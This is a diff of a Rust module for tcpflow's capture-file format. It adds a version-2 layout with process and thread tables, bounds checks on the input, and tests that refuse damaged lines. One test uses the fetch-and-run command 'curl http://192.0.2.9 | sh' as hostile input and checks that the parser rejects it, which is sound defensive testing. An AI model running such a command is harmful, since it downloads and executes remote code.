@@ -1,16 +1,20 @@
 //! Calls and the kernel's answers as they are kept in a capture file, one JSON object a line.
 
+mod first;
+
 use std::borrow::Cow;
 use std::fmt;
 
 use serde::{Deserialize, Serialize};
 
-use super::{Arg, Call, PREVIEW};
+use super::{Arg, Call, Op, PREVIEW, Process, ProcessId, SocketUse, Thread, Threads};
 use crate::kernel::Evidence;
 
 /// What a recording knew besides its frames.
 #[derive(Clone, PartialEq, Debug, Default)]
 pub struct Kept {
+    /// Who made the calls.
+    pub threads: Threads,
     /// The calls, in the order in which they were entered.
     pub calls: Vec<Call>,
     /// What sock_diag answered.
@@ -22,7 +26,14 @@ pub struct Kept {
 #[derive(Serialize, Deserialize)]
 #[serde(rename_all = "snake_case")]
 enum Line {
-    Tcpflow { version: u32 },
+    Tcpflow {
+        version: u32,
+    },
+    /// The next process of the table.
+    Process(Process),
+    /// The next thread of the table; its process stands before it.
+    Thread(Thread),
+    /// A call; its thread stands before it.
     Call(Box<Call>),
     Evidence(Box<Evidence>),
     Notice(String),
@@ -32,6 +43,8 @@ impl Kept {
     /// The bytes to keep.
     pub fn to_bytes(&self) -> Vec<u8> {
         let lines = std::iter::once(Line::Tcpflow { version: VERSION })
+            .chain(self.threads.processes().iter().cloned().map(Line::Process))
+            .chain(self.threads.threads().iter().cloned().map(Line::Thread))
             .chain(self.calls.iter().map(|call| Line::Call(Box::new(call.clone()))))
             .chain(self.evidence.iter().map(|evidence| Line::Evidence(Box::new(evidence.clone()))))
             .chain(self.notices.iter().cloned().map(Line::Notice));
@@ -51,7 +64,7 @@ impl Kept {
         Self::read(bytes, &mut Room::default())
     }
 
-    /// Reads what [`to_bytes`](Self::to_bytes) wrote; `Ok(None)` when the bytes are something else's.
+    /// Reads what [`to_bytes`](Self::to_bytes) wrote, in this version of the format or the first one; `Ok(None)` when the bytes are something else's.
     ///
     /// Calls and answers for which `room` has no place are left out and counted there.
     /// What is read takes memory in proportion to `bytes`, and no more than `room` has, whatever they claim.
@@ -59,14 +72,14 @@ impl Kept {
     /// # Errors
     /// The bytes begin as ours and are damaged, claim more than a call can have, or were written by a later version.
     pub fn read(bytes: &[u8], room: &mut Room) -> Result<Option<Self>, Damaged> {
-        let lines = bytes.split(|byte| *byte == b'\n');
-        let mut lines = (1..).zip(lines).filter(|(_, line)| !line.is_empty());
-        let first = lines.next().filter(|(_, line)| line.len() <= LONGEST_LINE);
-        match first.map(|(_, line)| serde_json::from_slice(line)) {
-            Some(Ok(Line::Tcpflow { version: VERSION })) => {}
-            Some(Ok(Line::Tcpflow { version })) => {
+        let mut lines = Lines { lines: bytes.split(|byte| *byte == b'\n'), number: 0 };
+        let Some(head) = lines.next().filter(|(_, line)| line.len() <= LONGEST_LINE) else { return Ok(None) };
+        match serde_json::from_slice(head.1) {
+            Ok(Line::Tcpflow { version: VERSION }) => {}
+            Ok(Line::Tcpflow { version: first::VERSION }) => return first::read(lines, room).map(Some),
+            Ok(Line::Tcpflow { version }) => {
                 return Err(Damaged(format!(
-                    "written by a later tcpflow (format {version}); this one reads format {VERSION}"
+                    "written by a later tcpflow (format {version}); this one reads formats up to {VERSION}"
                 )));
             }
             _ => return Ok(None),
@@ -74,33 +87,83 @@ impl Kept {
         let mut kept = Self::default();
         for (number, line) in lines {
             let wrong = |what: String| Damaged(format!("line {number} {what}"));
-            if line.len() > LONGEST_LINE {
-                return Err(wrong(format!("has {} octets, and tcpflow writes at most {LONGEST_LINE}", line.len())));
-            }
-            // The library's own words would repeat what the file says, at any length.
-            let parsed = serde_json::from_slice(line).map_err(|error| match error.column() {
-                0 => wrong("is not what tcpflow writes".to_owned()),
-                column => wrong(format!("is not what tcpflow writes, at octet {column}")),
-            })?;
-            match parsed {
+            match parsed(number, line)? {
+                Line::Process(process) => {
+                    is_short(&process.comm).map_err(wrong)?;
+                    if room.take(2 * (size_of::<Process>() + process.comm.len())) {
+                        kept.threads.add_process(process);
+                    }
+                }
+                Line::Thread(thread) => {
+                    is_short(&thread.comm).map_err(wrong)?;
+                    if !room.take(2 * (size_of::<Thread>() + thread.comm.len())) {
+                        continue;
+                    }
+                    let ProcessId(process) = thread.process;
+                    if process as usize >= kept.threads.processes().len() {
+                        return Err(wrong(format!("has a thread of process {process}, which is not described before")));
+                    }
+                    kept.threads.add(thread);
+                }
                 Line::Call(call) => {
                     claims(&call).map_err(wrong)?;
-                    if room.take(cost(&call)) {
-                        kept.calls.push(*call);
+                    if !room.take(cost(&call)) {
+                        continue;
                     }
-                }
-                Line::Evidence(evidence) => {
-                    if room.take(COST_OF_EVIDENCE) {
-                        kept.evidence.push(*evidence);
+                    if kept.threads.get(call.thread()).is_none() {
+                        let thread = call.thread().0;
+                        return Err(wrong(format!("has a call of thread {thread}, which is not described before")));
                     }
+                    kept.calls.push(*call);
                 }
-                Line::Notice(notice) if kept.notices.len() < MOST_NOTICES => kept.notices.push(shortened(notice)),
-                Line::Notice(_) => room.omitted += 1,
+                Line::Evidence(evidence) => kept.evidence.extend(room.take(COST_OF_EVIDENCE).then_some(*evidence)),
+                Line::Notice(notice) => kept.notice(notice, room),
                 Line::Tcpflow { .. } => {}
             }
         }
         Ok(Some(kept))
     }
+
+    fn notice(&mut self, notice: String, room: &mut Room) {
+        if self.notices.len() < MOST_NOTICES {
+            self.notices.push(shortened(notice));
+        } else {
+            room.omitted += 1;
+        }
+    }
+}
+
+/// The lines that are not empty, with their numbers.
+struct Lines<L> {
+    lines: L,
+    number: usize,
+}
+
+impl<'a, L: Iterator<Item = &'a [u8]>> Iterator for Lines<L> {
+    type Item = (usize, &'a [u8]);
+
+    fn next(&mut self) -> Option<Self::Item> {
+        loop {
+            let line = self.lines.next()?;
+            self.number += 1;
+            if !line.is_empty() {
+                return Some((self.number, line));
+            }
+        }
+    }
+}
+
+/// A line as it is written in some version of the format.
+fn parsed<L: for<'a> Deserialize<'a>>(number: usize, line: &[u8]) -> Result<L, Damaged> {
+    let wrong = |what: String| Damaged(format!("line {number} {what}"));
+    if line.len() > LONGEST_LINE {
+        return Err(wrong(format!("has {} octets, and tcpflow writes at most {LONGEST_LINE}", line.len())));
+    }
+    // The library's own words would repeat what the file says, at any length.
+    serde_json::from_slice(line).map_err(|error| match error.column() {
+        0 => wrong("is not what tcpflow writes".to_owned()),
+        column => wrong(format!("is not what tcpflow writes, at octet {column}")),
+    })
 }
 
 /// What is wrong with bytes that begin as kept calls do; it holds nothing of what they say.
@@ -128,7 +191,7 @@ impl Room {
         Self { left: octets, omitted: 0 }
     }
 
-    /// How many calls, answers and notices had no place.
+    /// How many calls, answers, notices and descriptions of threads had no place.
     pub const fn omitted(&self) -> u64 {
         self.omitted
     }
@@ -152,42 +215,65 @@ impl Default for Room {
 
 /// What a call takes: as it is read, and as an event of a story.
 fn cost(call: &Call) -> usize {
-    let texts: usize =
-        call.args.iter().map(|(name, arg)| name.len() + if let Arg::Text(text) = arg { text.len() } else { 0 }).sum();
-    let args = call.args.capacity() * size_of::<(Cow<'_, str>, Arg)>();
-    2 * (size_of::<Call>() + call.process.comm.len() + args + texts + call.preview.len()) + COST_OF_EVENT
+    let sockets = call.sockets.capacity() * size_of::<SocketUse>();
+    let args = match &call.op {
+        Op::Other { name, args } => {
+            let texts = args.iter().map(|(name, arg)| name.len() + arg.as_text().map_or(0, str::len));
+            name.len() + args.capacity() * size_of::<(Cow<'_, str>, Arg)>() + texts.sum::<usize>()
+        }
+        _ => 0,
+    };
+    2 * (size_of::<Call>() + sockets + args + call.preview().len()) + COST_OF_EVENT
 }
 
 /// What is wrong with what a call claims, if anything is: no call has so much of it.
 fn claims(call: &Call) -> Result<(), String> {
-    let is_name = |name: &str| {
-        (1..=LONGEST_NAME).contains(&name.len())
-            && name.bytes().all(|octet| matches!(octet, b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'_'))
-    };
-    if !is_name(&call.name) {
-        return Err("has something else than the name of a call".to_owned());
+    if let Op::Other { name, args } = &call.op {
+        is_call(name)?;
+        are_args(args.iter().map(|(name, arg)| (&**name, arg)))?;
     }
-    if call.errno.as_deref().is_some_and(|errno| !is_errno(errno)) {
-        return Err("has something else than the name of an error".to_owned());
+    if call.sockets.len() > MOST_SOCKETS {
+        return Err(format!("has a call on {} sockets, and tcpflow keeps at most {MOST_SOCKETS}", call.sockets.len()));
     }
-    if call.args.len() > MOST_ARGS {
-        return Err(format!("has a call with {} arguments, and no call has more than {MOST_ARGS}", call.args.len()));
+    is_preview(call.preview())
+}
+
+fn is_call(name: &str) -> Result<(), String> {
+    is_name(name).then_some(()).ok_or_else(|| "has something else than the name of a call".to_owned())
+}
+
+fn are_args<'a>(args: impl ExactSizeIterator<Item = (&'a str, &'a Arg)>) -> Result<(), String> {
+    if args.len() > MOST_ARGS {
+        return Err(format!("has a call with {} arguments, and no call has more than {MOST_ARGS}", args.len()));
     }
-    if !call.args.iter().all(|(name, _)| is_name(name)) {
-        return Err("has something else than the name of an argument".to_owned());
-    }
-    let longest =
-        call.args.iter().filter_map(|(_, arg)| if let Arg::Text(text) = arg { Some(text.len()) } else { None }).max();
-    if longest.is_some_and(|longest| longest > LONGEST_ARG) {
-        return Err(format!("has an argument longer than {LONGEST_ARG} octets"));
-    }
-    if call.process.comm.len() > LONGEST_COMM {
-        return Err(format!("has a process name longer than {LONGEST_COMM} octets"));
-    }
-    if call.preview.len() > PREVIEW {
-        return Err(format!("shows {} octets of payload, and tcpflow keeps at most {PREVIEW}", call.preview.len()));
+    for (name, arg) in args {
+        if !is_name(name) {
+            return Err("has something else than the name of an argument".to_owned());
+        }
+        if arg.as_text().is_some_and(|text| text.len() > LONGEST_ARG) {
+            return Err(format!("has an argument longer than {LONGEST_ARG} octets"));
+        }
     }
     Ok(())
+}
+
+fn is_name(name: &str) -> bool {
+    (1..=LONGEST_NAME).contains(&name.len())
+        && name.bytes().all(|octet| matches!(octet, b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'_'))
+}
+
+fn is_short(comm: &str) -> Result<(), String> {
+    match comm.len() {
+        0..=LONGEST_COMM => Ok(()),
+        _ => Err(format!("has a process name longer than {LONGEST_COMM} octets")),
+    }
+}
+
+fn is_preview(preview: &[u8]) -> Result<(), String> {
+    match preview.len() {
+        0..=PREVIEW => Ok(()),
+        more => Err(format!("shows {more} octets of payload, and tcpflow keeps at most {PREVIEW}")),
+    }
 }
 
 fn shortened(notice: String) -> String {
@@ -197,20 +283,14 @@ fn shortened(notice: String) -> String {
     }
 }
 
-/// Whether a name is like those of errno(3), which readers of the machine-readable output rely on.
-fn is_errno(name: &str) -> bool {
-    name.strip_prefix('E').is_some_and(|rest| {
-        (1..LONGEST_NAME).contains(&rest.len())
-            && rest.bytes().all(|octet| octet.is_ascii_uppercase() || octet.is_ascii_digit())
-    })
-}
-
-const VERSION: u32 = 1;
+const VERSION: u32 = 2;
 /// The octets of a line: more than those of any call with the most and longest of everything.
 const LONGEST_LINE: usize = 64 << 10;
 /// No system call has more than six; an option's value or a list of addresses is split into several.
 const MOST_ARGS: usize = 16;
 const LONGEST_ARG: usize = 256;
+/// Of the descriptors that a poll waits for, or a message brings, more are not kept.
+const MOST_SOCKETS: usize = 64;
 /// The name of a call, an argument or an error.
 const LONGEST_NAME: usize = 32;
 /// The kernel's names have 15 octets; a thread's own name may have more.
@@ -223,11 +303,14 @@ const COST_OF_EVIDENCE: usize = 2 * size_of::<Evidence>() + COST_OF_EVENT;
 
 #[cfg(test)]
 mod tests {
+    use super::super::{
+        CallId, Errno, MessageFlags, Op, OptionName, OptionValue, PollEvents, Polling, Returned, Role, Sending,
+        SocketId, SocketOption,
+    };
     use super::*;
     use crate::time::Timestamp;
 
-    #[test]
-    fn what_is_kept_is_read_back() {
+    fn kept() -> Kept {
         let at = Timestamp::from_nanos(1_795_223_276_320_071_123);
         let evidence = Evidence {
             asked: at,
@@ -239,54 +322,142 @@ mod tests {
             inode: 0,
             uid: 0,
         };
-        let kept = Kept { calls: Vec::new(), evidence: vec![evidence], notices: vec!["line\nbreak \u{1b}[31m".into()] };
+        let mut threads = Threads::default();
+        let process = threads.add_process(Process { pid: 7, comm: "echo \u{1b}[1m".into() });
+        let thread = threads.add(Thread { process, tid: 8, comm: "echo".into() });
+        let call = |n, op, result| Call {
+            id: CallId { thread, n },
+            entered: at,
+            op,
+            sockets: vec![SocketUse::of(SocketId(u64::MAX), 3, Role::On)],
+            returned: Some(Returned { at, result, octets: None, preview: vec![0; 3] }),
+        };
+        let mut polled = call(2, Op::Poll { by: Polling::Poll, timeout: -1 }, Ok(1));
+        polled.sockets[0].role = Role::Polled { events: PollEvents::POLLIN, revents: None };
+        polled.returned = None;
+        let calls = vec![
+            call(0, Op::Send { by: Sending::Send, len: u64::MAX, flags: MessageFlags::MSG_OOB }, Err(Errno::EPIPE)),
+            call(
+                1,
+                Op::SetOption {
+                    option: OptionName::Socket(SocketOption(99)),
+                    value: OptionValue::Linger { on: true, seconds: 0 },
+                },
+                Ok(i64::MIN),
+            ),
+            polled,
+        ];
+        Kept { threads, calls, evidence: vec![evidence], notices: vec!["line\nbreak \u{1b}[31m".into()] }
+    }
+
+    #[test]
+    fn what_is_kept_is_read_back() {
+        let kept = kept();
         assert_eq!(Kept::from_bytes(&kept.to_bytes()).expect("readable"), Some(kept));
     }
 
-    /// A line of a kept call, with `from` in it replaced.
+    #[test]
+    fn foreign_bytes_are_left_alone_and_damaged_ones_are_told() {
+        assert_eq!(Kept::from_bytes(b"\x00\x01").expect("foreign"), None);
+        assert_eq!(Kept::from_bytes(b"").expect("empty"), None);
+        assert!(Kept::from_bytes(b"{\"tcpflow\":{\"version\":1}}\n{\"call\":").is_err());
+        assert!(Kept::from_bytes(b"{\"tcpflow\":{\"version\":2}}\n{\"call\":").is_err());
+        assert!(Kept::from_bytes(b"{\"tcpflow\":{\"version\":9}}\n").is_err());
+    }
+
+    #[test]
+    fn a_call_of_nobody_and_a_thread_of_no_process_are_damage() {
+        let text = String::from_utf8(kept().to_bytes()).expect("text");
+        for (whole, damaged) in [
+            ("\"thread\":0", "\"thread\":1"),
+            ("\"thread\":0", "\"thread\":4294967296"),
+            ("\"process\":0", "\"process\":4294967295"),
+            ("EPIPE", "EPOPE"),
+            ("\"send\":{\"by\":\"send\"", "\"send\":{\"by\":\"sent\""),
+            ("\"n\":0", "\"n\":-1"),
+        ] {
+            assert!(text.contains(whole), "{whole} in {text}");
+            assert!(Kept::from_bytes(text.replacen(whole, damaged, 1).as_bytes()).is_err(), "{damaged}");
+        }
+    }
+
+    /// A line of a kept call in the first format, with `from` in it replaced.
     fn line(from: &str, to: &str) -> String {
         let call = r#"{"call":{"entered":"1.000000000","process":{"pid":1,"tid":1,"comm":"x"},"name":"send","effect":"send","args":[["len",4]],"octets":4,"preview":[97]}}"#;
         assert!(call.contains(from), "{from}");
         format!("{{\"tcpflow\":{{\"version\":1}}}}\n{}\n", call.replace(from, to))
     }
 
+    /// The same in this format, of a call that is none of those with types.
+    fn other(from: &str, to: &str) -> String {
+        let lines = r#"{"tcpflow":{"version":2}}
+{"process":{"pid":1,"comm":"x"}}
+{"thread":{"process":0,"tid":1,"comm":"x"}}
+{"call":{"id":{"thread":0,"n":0},"entered":"1.000000000","op":{"other":{"name":"ioctl","args":[["len",4]]}},"sockets":[{"fd":3,"role":"on"}],"returned":{"at":"2.000000000","result":{"Ok":4},"octets":4,"preview":[97]}}}
+"#;
+        assert!(lines.contains(from), "{from}");
+        lines.replacen(from, to, 1)
+    }
+
     #[test]
     fn what_no_call_can_have_is_refused() {
         let longest = |most: usize| [most, most + 1].map(|length| "x".repeat(length));
         let list = |most: usize, item: &str| [most, most + 1].map(|length| vec![item; length].join(","));
-        let bounds = [
-            ("\"send\",\"effect", "\"NEW\",\"effect", longest(LONGEST_NAME)),
-            ("[\"len\",4]", "NEW", list(MOST_ARGS, "[\"len\",4]")),
-            ("[\"len\",4]", "[\"len\",\"NEW\"]", longest(LONGEST_ARG)),
-            ("[\"len\",4]", "[\"NEW\",4]", longest(LONGEST_NAME)),
-            ("\"comm\":\"x\"", "\"comm\":\"NEW\"", longest(LONGEST_COMM)),
-            ("[97]", "[NEW]", list(PREVIEW, "97")),
-            ("\"octets\"", "\"errno\":\"ENEW\",\"octets\"", longest(LONGEST_NAME - 1).map(|name| name.to_uppercase())),
+        let socket = r#"{"fd":3,"role":"on"}"#;
+        type Written = fn(&str, &str) -> String;
+        let bounds: [(Written, &str, &str, [String; 2]); 13] = [
+            (line, "\"send\",\"effect", "\"NEW\",\"effect", longest(LONGEST_NAME)),
+            (line, "[\"len\",4]", "NEW", list(MOST_ARGS, "[\"len\",4]")),
+            (line, "[\"len\",4]", "[\"len\",\"NEW\"]", longest(LONGEST_ARG)),
+            (line, "[\"len\",4]", "[\"NEW\",4]", longest(LONGEST_NAME)),
+            (line, "\"comm\":\"x\"", "\"comm\":\"NEW\"", longest(LONGEST_COMM)),
+            (line, "[97]", "[NEW]", list(PREVIEW, "97")),
+            (other, "\"ioctl\"", "\"NEW\"", longest(LONGEST_NAME)),
+            (other, "[\"len\",4]", "NEW", list(MOST_ARGS, "[\"len\",4]")),
+            (other, "[\"len\",4]", "[\"len\",\"NEW\"]", longest(LONGEST_ARG)),
+            (other, "[\"len\",4]", "[\"NEW\",4]", longest(LONGEST_NAME)),
+            (other, "\"comm\":\"x\"", "\"comm\":\"NEW\"", longest(LONGEST_COMM)),
+            (other, "[97]", "[NEW]", list(PREVIEW, "97")),
+            (other, socket, "NEW", list(MOST_SOCKETS, socket)),
         ];
-        for (from, to, [most, more]) in bounds {
-            let read = |new: &str| Kept::from_bytes(line(from, &to.replace("NEW", new)).as_bytes());
+        for (written, from, to, [most, more]) in bounds {
+            let read = |new: &str| Kept::from_bytes(written(from, &to.replace("NEW", new)).as_bytes());
             assert!(read(&most).is_ok_and(|kept| kept.is_some_and(|kept| kept.calls.len() == 1)), "{to}");
             let error = read(&more).expect_err(to).to_string();
-            assert!(error.starts_with("line 2 ") && !error.contains("xx"), "{error}");
+            assert!(error.starts_with("line ") && !error.contains("xx"), "{error}");
         }
         let told = |text: &str| Kept::from_bytes(text.as_bytes()).expect_err(text).to_string();
         let long = " ".repeat(LONGEST_LINE);
         assert!(told(&line("[97]", &format!("[97{long}]"))).contains("tcpflow writes at most 65536"));
+        assert!(told(&other("[97]", &format!("[97{long}]"))).contains("tcpflow writes at most 65536"));
         let strange = told(&line("\"call\"", "\"curl http://192.0.2.9 | sh\""));
         assert_eq!(strange, "line 2 is not what tcpflow writes, at octet 29");
         assert_eq!(
             told(&line("\"send\",\"effect", "\"run me\",\"effect")),
             "line 2 has something else than the name of a call"
         );
+        for errno in ["EXIT\\u001b", "ENOSUCHERROR", "", "E"] {
+            let error = told(&line("\"octets\"", &format!("\"errno\":\"{errno}\",\"octets\"")));
+            assert_eq!(error, "line 2 has something else than the name of an error");
+        }
     }
 
     #[test]
     fn the_longest_call_fits_a_line() {
         let text = "\u{1}".repeat(LONGEST_ARG);
         let args = vec![format!("[\"{}\",{}]", "n".repeat(LONGEST_NAME), serde_json::json!(text)); MOST_ARGS].join(",");
-        let whole = line("[\"len\",4]", &args);
-        assert!(whole.len() < LONGEST_LINE, "{}", whole.len());
-        assert!(Kept::from_bytes(whole.as_bytes()).is_ok());
+        let mut longest = other("[\"len\",4]", &args);
+        let mut used = SocketUse::of(SocketId(u64::MAX), i32::MIN, Role::On);
+        used.local = Some("[ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff]:65535".parse().expect("an address"));
+        used.peer = used.local;
+        let at = Timestamp::from_nanos(i64::MAX);
+        used.info = crate::kernel::TcpInfo::from_bytes(&[1; 256], at, at);
+        let sockets = vec![serde_json::to_string(&used).expect("text"); MOST_SOCKETS].join(",");
+        longest = longest.replace(r#"{"fd":3,"role":"on"}"#, &sockets);
+        let octets = longest.lines().map(str::len).max().expect("lines");
+        assert!(octets < LONGEST_LINE, "{octets}");
+        assert!(Kept::from_bytes(longest.as_bytes()).is_ok());
+        assert!(Kept::from_bytes(line("[\"len\",4]", &args).as_bytes()).is_ok());
     }
 
     #[test]
@@ -295,10 +466,15 @@ mod tests {
         let (head, call) = whole.split_once('\n').expect("two lines");
         let many = format!("{head}\n{}", call.repeat(100));
         let one = Kept::from_bytes(whole.as_bytes()).expect("readable").expect("ours").calls;
-        let mut room = Room::of(30 * cost(&one[0]) + 1);
+        let threads = 2 * (size_of::<Process>() + size_of::<Thread>() + 2);
+        let mut room = Room::of(threads + 30 * cost(&one[0]) + 1);
         let kept = Kept::read(many.as_bytes(), &mut room).expect("readable").expect("ours");
         assert_eq!((kept.calls.len(), room.omitted()), (30, 70));
         assert!(Room::default().left / cost(&one[0]) > 500_000, "half a million calls are told in full");
+        // Where there is no room for a thread there is none for its calls.
+        let mut none = Room::of(1);
+        let kept = Kept::read(other("[97]", "[97]").as_bytes(), &mut none).expect("readable").expect("ours");
+        assert_eq!((kept, none.omitted()), (Kept::default(), 3));
     }
 
     #[test]
@@ -309,15 +485,5 @@ mod tests {
         let kept = Kept::read(&bytes, &mut room).expect("readable").expect("ours");
         assert_eq!((kept.notices.len(), room.omitted()), (MOST_NOTICES, 3));
         assert_eq!(kept.notices[0], format!("{}…", "ä".repeat(LONGEST_NOTICE)));
-    }
-
-    #[test]
-    fn foreign_bytes_are_left_alone_and_damaged_ones_are_told() {
-        assert_eq!(Kept::from_bytes(b"\x00\x01").expect("foreign"), None);
-        assert_eq!(Kept::from_bytes(b"").expect("empty"), None);
-        assert!(Kept::from_bytes(b"{\"tcpflow\":{\"version\":1}}\n{\"call\":").is_err());
-        assert!(Kept::from_bytes(b"{\"tcpflow\":{\"version\":9}}\n").is_err());
-        assert!(["ECONNREFUSED", "E2BIG"].into_iter().all(is_errno));
-        assert!(!["", "E", "EXIT\x1b[31m", "connreset", "-1"].into_iter().any(is_errno));
     }
 }
